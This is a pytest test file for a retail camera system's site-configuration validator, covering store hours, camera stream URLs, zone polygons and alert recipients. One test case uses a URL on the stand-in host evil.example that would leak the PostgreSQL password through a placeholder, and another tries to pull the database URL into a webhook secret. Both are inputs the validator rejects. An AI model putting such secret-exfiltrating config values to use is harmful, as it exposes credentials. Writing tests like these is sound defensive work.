"""Site configuration validation: every error, with its key path and line."""

from __future__ import annotations

import pytest

from shrinkwatch.site_file import (
    SiteConfigError,
    parse_site_config,
    placeholders,
    resolve_placeholders,
)
from tests.factories import SITE_YAML


def test_valid_site() -> None:
    config = parse_site_config(SITE_YAML)
    assert [c.id for c in config.cameras] == ["cam-1"]
    assert config.cameras[0].zones[0].kind == "high_value"
    assert config.stores[0].hours == {"mon": "08:00-21:00", "sat": "09:00-18:00"}


@pytest.mark.parametrize(
    ("hours", "expected"),
    [
        ('hours: {mon: "08:00-21:00", sat: "09:00-18:00"}', {"mon": "08:00-21:00", "sat": "09:00-18:00"}),
        ("hours: {}", {}),  # closed every day
        ("", None),  # unknown
        ('hours: {fri: "22:00-06:00"}', {"fri": "22:00-06:00"}),  # past midnight
    ],
)
def test_opening_hours_forms(hours: str, expected: dict[str, str] | None) -> None:
    given = '    hours: {mon: "08:00-21:00", sat: "09:00-18:00"}\n'
    text = SITE_YAML.replace(given, f"    {hours}\n" if hours else "")
    assert parse_site_config(text).stores[0].hours == expected


@pytest.mark.parametrize(
    ("old", "new", "path", "message"),
    [
        ("id: store-001\n", "id: Store_001\n", "stores[0].id", "pattern"),
        (
            "timezone: Europe/London",
            "timezone: Europe/Lodnon",
            "stores[0].timezone",
            "unknown IANA time zone",
        ),
        ('sat: "09:00-18:00"', 'sat: "18:00-18:00"', "stores[0].hours", "both 18:00"),
        ('sat: "09:00-18:00"', 'sat: "09:00-24:30"', "stores[0].hours", "HH:MM-HH:MM"),
        ('sat: "09:00-18:00"', 'sat: "9-6"', "stores[0].hours", "HH:MM-HH:MM"),
        ("fps: 5", "fps: 0", "cameras[0].fps", "greater than 0"),
        ("rtsp://user:secret@", "rtsp://${1USER}:${PASS}@", "cameras[0].stream_url", "placeholder must read"),
        ("rtsp://user:secret@", "rtsp://${USER:${PASS}@", "cameras[0].stream_url", "placeholder must read"),
        (
            "rtsp://user:secret@",
            "http://evil.example/${PGPASSWORD}?",
            "cameras[0].stream_url",
            "${PGPASSWORD}: Shrinkwatch's own settings and PostgreSQL's (SHRINKWATCH_*, PG*) are not for",
        ),
        ("kind: exit", "kind: door", "cameras[0].zones[1].kind", "Input should be"),
        (
            "[[0.8, 0.0], [1.0, 0.0], [1.0, 1.0], [0.8, 1.0]]",
            "[[0.8, 0.0], [1.0, 0.0]]",
            "cameras[0].zones[1].polygon",
            "at least 3",
        ),
        (
            "[[0.8, 0.0], [1.0, 0.0], [1.0, 1.0], [0.8, 1.0]]",
            "[[0.8, 0.0], [1.2, 0.0], [1.0, 1.0]]",
            "cameras[0].zones[1].polygon",
            "outside 0..1",
        ),
        (
            "[[0.8, 0.0], [1.0, 0.0], [1.0, 1.0], [0.8, 1.0]]",
            "[[0.1, 0.1], [0.2, 0.2], [0.3, 0.3]]",
            "cameras[0].zones[1].polygon",
            "no area",
        ),
        ("    fps: 5\n", "    fps: 5\n    colour: red\n", "cameras[0].colour", "Extra inputs"),
        ("id: z-exit", "id: z-razors", "cameras[0].zones[1].id", "duplicate zone id"),
    ],
)
def test_each_error_names_its_key_path(old: str, new: str, path: str, message: str) -> None:
    assert old in SITE_YAML
    with pytest.raises(SiteConfigError) as info:
        parse_site_config(SITE_YAML.replace(old, new, 1), "site.yaml")
    problems = {p.path: p for p in info.value.problems}
    assert path in problems, info.value
    assert message in problems[path].message
    assert problems[path].line is not None
    assert "nothing was applied" in str(info.value)


def test_all_errors_are_reported_at_once() -> None:
    broken = SITE_YAML.replace("Europe/London", "Mars/Base").replace("kind: exit", "kind: door")
    with pytest.raises(SiteConfigError) as info:
        parse_site_config(broken)
    assert {p.path for p in info.value.problems} == {"stores[0].timezone", "cameras[0].zones[1].kind"}


def test_line_numbers_point_at_the_key() -> None:
    broken = SITE_YAML.replace("fps: 5", "fps: -1")
    with pytest.raises(SiteConfigError) as info:
        parse_site_config(broken)
    line = info.value.problems[0].line
    assert line is not None and "fps: -1" in broken.splitlines()[line - 1]


def test_not_yaml() -> None:
    with pytest.raises(SiteConfigError, match="not valid YAML"):
        parse_site_config("stores: [\n")


def test_placeholders_resolve_from_the_given_environment() -> None:
    template = "rtsp://${CAM_USER}:${CAM_PASS}@10.0.0.5/stream1?token=${CAM_PASS}"
    assert placeholders(template) == ["CAM_USER", "CAM_PASS", "CAM_PASS"]
    env = {"CAM_USER": "admin", "CAM_PASS": "s3cret"}
    assert resolve_placeholders(template, env) == "rtsp://admin:s3cret@10.0.0.5/stream1?token=s3cret"
    with pytest.raises(KeyError, match="CAM_PASS"):
        resolve_placeholders(template, {"CAM_USER": "admin"})
    assert resolve_placeholders("/videos/aisle.mp4", {}) == "/videos/aisle.mp4"


WITH_ALERTS = (
    SITE_YAML
    + """\
alerts:
  recipients:
    - id: ana
      name: Ana Silva
      email: ana@example.com
      phone: "+447700900123"
      channels: [email, sms]
      stores: [store-001]
      min_level: medium
      incident_types: [loitering_high_value, exit_without_checkout]
      quiet_hours: "22:00-07:00"
      max_per_hour: 5
      digest: weekly mon 07:00
      timezone: Europe/London
    - id: chain-soc
      name: Security operations
      webhook_url: https://soc.example.com/hooks/shrinkwatch
      webhook_secret: ${SOC_HOOK_SECRET}
      channels: [webhook]
      stores: [store-001, store-002]
"""
)


def test_alert_recipients_in_the_site_file() -> None:
    from datetime import time

    ana, soc = [r.to_recipient() for r in parse_site_config(WITH_ALERTS).alerts.recipients]
    assert (ana.channels, ana.stores, ana.min_level, ana.max_per_hour) == (
        ("email", "sms"),
        ("store-001",),
        "medium",
        5,
    )
    assert (ana.quiet_start, ana.quiet_end, ana.digest) == (time(22, 0), time(7, 0), "weekly mon 07:00")
    assert ana.incident_types == ("loitering_high_value", "exit_without_checkout")
    assert (soc.webhook_secret, soc.min_level, soc.quiet_start) == ("${SOC_HOOK_SECRET}", "high", None)


@pytest.mark.parametrize(
    ("old", "new", "path", "message"),
    [
        ("      email: ana@example.com\n", "", "alerts.recipients[0].email", "needed for the email channel"),
        ('"+447700900123"', "07700 900123", "alerts.recipients[0].phone", "E.164"),
        (
            "channels: [email, sms]",
            "channels: [email, pager]",
            "alerts.recipients[0].channels",
            "one or more",
        ),
        ("min_level: medium", "min_level: urgent", "alerts.recipients[0].min_level", "one of low, medium"),
        ("[loitering_high_value,", "[loitering,", "alerts.recipients[0].incident_types", "unknown loitering"),
        ('"22:00-07:00"', '"10pm-7am"', "alerts.recipients[0].quiet_hours", "HH:MM-HH:MM"),
        ("max_per_hour: 5", "max_per_hour: 0", "alerts.recipients[0].max_per_hour", "at least 1"),
        ("weekly mon 07:00", "every monday", "alerts.recipients[0].digest", "'daily 07:00' or"),
        (
            "timezone: Europe/London\n    -",
            "timezone: London\n    -",
            "alerts.recipients[0].timezone",
            "IANA",
        ),
        ("id: chain-soc", "id: ana", "alerts.recipients[1].id", "duplicate recipient id"),
        (
            "      webhook_secret: ${SOC_HOOK_SECRET}\n",
            "",
            "alerts.recipients[1].webhook_url",
            "and a secret",
        ),
        ("      name: Security operations\n", "", "alerts.recipients[1].name", "Field required"),
        (
            "      max_per_hour: 5\n",
            "      max_per_hour: 5\n      pager: 1234\n",
            "alerts.recipients[0].pager",
            "Extra",
        ),
        ("id: chain-soc", "id: Chain SOC", "alerts.recipients[1].id", "use 1-64 of a-z"),
        (
            "channels: [webhook]",
            "channels: [webhook, apprise]",
            "alerts.recipients[1].apprise_url",
            "is needed",
        ),
        (
            "channels: [webhook]",
            "channels: [apprise]\n      apprise_url: slack://T1/B2/c3d4",
            "alerts.recipients[1].apprise_url",
            "write the whole URL as one ${VAR}, with VAR set in the environment",
        ),
        (
            "${SOC_HOOK_SECRET}",
            "${SHRINKWATCH_DATABASE_URL}",
            "alerts.recipients[1].webhook_secret",
            "${SHRINKWATCH_DATABASE_URL}: Shrinkwatch's own settings and PostgreSQL's (SHRINKWATCH_*, PG*) "
            "are not for site data",
        ),
        (
            "${SOC_HOOK_SECRET}",
            "s3cret",
            "alerts.recipients[1].webhook_secret",
            "write it as ${VAR}, with VAR set in the environment: secrets are never stored",
        ),
        ("${SOC_HOOK_SECRET}", "${SOC-HOOK}", "alerts.recipients[1].webhook_secret", "must read ${NAME}"),
    ],
)
def test_each_recipient_error_names_its_key_path(old: str, new: str, path: str, message: str) -> None:
    assert old in WITH_ALERTS
    with pytest.raises(SiteConfigError) as info:
        parse_site_config(WITH_ALERTS.replace(old, new, 1), "site.yaml")
    problems = {p.path: p for p in info.value.problems}
    assert path in problems, info.value
    assert message in problems[path].message
    assert problems[path].line is not None
